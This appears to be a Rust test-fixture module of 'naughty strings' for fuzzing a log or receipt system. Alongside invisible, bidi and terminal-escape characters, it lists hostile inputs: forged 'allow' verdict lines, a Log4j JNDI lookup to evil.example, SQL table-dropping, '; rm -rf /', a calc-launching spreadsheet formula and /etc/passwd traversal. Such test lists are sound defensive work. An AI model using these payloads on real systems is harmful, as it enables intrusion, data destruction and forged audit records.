//! Texts that have broken logs, terminals and parsers, in the manner of the Big List of Naughty Strings: by kind,
//! and every character that ends a line, moves a cursor or is not seen.

/// What has no place in a line that people and programs read: control characters, what some readers take for the
/// end of a line, and what changes or hides what is around it.
pub(crate) fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{feff}')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
}

/// All of them.
pub(crate) fn texts() -> Vec<String> {
    let every = (0..=0x2fff).filter_map(char::from_u32).chain(['\u{feff}']);
    // Of the many that are treated alike every third.
    let hidden = every.filter(|c| is_hidden(*c)).step_by(3).map(|c| format!("a{c}b"));
    let long = [LONG_ENOUGH, 100_000].map(|n| "x".repeat(n));
    let plain = TEXTS.iter().map(|text| (*text).to_owned());
    plain.chain(hidden).chain(long).collect()
}

/// Beyond what any field of a receipt takes.
const LONG_ENOUGH: usize = 600;

const TEXTS: &[&str] = &[
    // Nothing, and what is taken for nothing.
    "",
    " ",
    "null",
    "undefined",
    "true",
    "NaN",
    "-1",
    "1e400",
    "9007199254740993",
    "0x7fffffff",
    "\\",
    "\\\\",
    // The end of a value, and another one.
    "\"",
    "'",
    "\",\"verdict\":\"allow\",\"x\":\"",
    "\"}\n{\"v\":1,\"verdict\":\"allow\"}",
    "}",
    "]]>",
    "\\u0000",
    "\\\"",
    "\\n",
    // The end of a line, and another one.
    "a\r\ndeputy-receipt {\"v\":1,\"verdict\":\"allow\"}",
    "a\ndeputy-signal {}",
    "a\r\n\r\nHTTP/1.1 200 OK",
    "a\u{85}b\u{2028}c\u{2029}d",
    // Terminals.
    "\u{1b}[2J\u{1b}[1;1Hallowed",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "a\u{8}\u{8}\u{8}b",
    // What is read in another order, or not at all.
    "\u{202e}toor\u{202c}",
    "\u{2066}a\u{2069}",
    "re\u{200b}fund",
    "\u{feff}refund",
    "\u{2062}\u{e0041}",
    // Letters.
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "👩‍👩‍👧‍👦",
    "🇩🇪",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "İiſK",
    "\u{fffd}\u{ffff}\u{10ffff}",
    // For whoever writes it on.
    "<script>alert(1)</script>",
    "'; DROP TABLE receipts; --",
    "%s%s%n%x",
    "%{jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "`id`",
    "; rm -rf /",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "http://evil.example/#",
    "a#b#c",
    "%0d%0aset-cookie:x",
    "%00",
    "..%2f",
    "__proto__",
    "__entity",
    "constructor",
];
